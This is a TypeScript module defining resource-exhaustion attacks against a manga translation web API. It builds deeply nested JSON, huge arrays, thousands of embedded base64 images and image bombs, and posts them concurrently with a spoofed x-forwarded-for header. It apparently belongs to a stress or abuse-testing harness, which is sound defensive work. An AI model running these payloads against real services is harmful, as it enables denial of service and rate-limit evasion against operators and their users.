import type { Attack, Scene } from './attack.ts'

const save = '/api/manga/save/imagesByBase64'
const tiny =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='
const nested = `${'['.repeat(50_000)}${']'.repeat(50_000)}`
const many = {
  numbers: `{"images":[${'1,'.repeat(1_000_000)}1]}`,
  images: `{"images":[${`"${tiny}",`.repeat(20_000)}"${tiny}"]}`,
}
const twenty = JSON.stringify({ images: Array.from({ length: 20 }, () => tiny) })

/** Bodies that cost more than they should. */
export const hostileBodies: readonly Attack[] = [
  {
    name: 'huge arrays',
    attackers: 3,
    pauseMs: 500,
    strike: async (scene, round) => await post(scene, save, round % 2 ? many.numbers : many.images),
  },
  { name: 'tiny images', attackers: 3, pauseMs: 500, strike: async (scene) => await post(scene, save, twenty) },
  {
    name: 'nested JSON',
    attackers: 3,
    pauseMs: 200,
    strike: async (scene, round) => {
      const paths = [save, '/api/manga/imagesZip/download', '/api/manga/submit/translateTask']
      await post(scene, paths[round % paths.length]!, `{"taskIds":${nested}}`)
    },
  },
  {
    name: 'interlaced 16-bit images',
    attackers: 16,
    pauseMs: 1000,
    strike: async (scene, round) => await upload(scene, pick(scene.material.interlaced, round)),
  },
  {
    name: 'image bombs',
    attackers: 4,
    pauseMs: 300,
    strike: async (scene, round) => await upload(scene, pick(scene.material.bombs, round)),
  },
]

function pick<Value>(values: readonly Value[], round: number): Value {
  return values[round % values.length]!
}

async function post(scene: Scene, path: string, body: string): Promise<void> {
  const headers = { 'content-type': 'application/json', 'x-forwarded-for': scene.address, sign: 'x' }
  const response = await fetch(scene.url + path, { method: 'POST', body, headers, signal: scene.signal })
  await response.arrayBuffer()
  scene.note(response.status)
}

async function upload(scene: Scene, bytes: Uint8Array): Promise<void> {
  const form = new FormData()
  form.append('file', new File([new Uint8Array(bytes)], 'a.png'))
  const headers = { 'x-forwarded-for': scene.address }
  const response = await fetch(`${scene.url}/api/manga/img/upload`, {
    method: 'POST',
    body: form,
    headers,
    signal: scene.signal,
  })
  await response.arrayBuffer()
  scene.note(response.status)
}
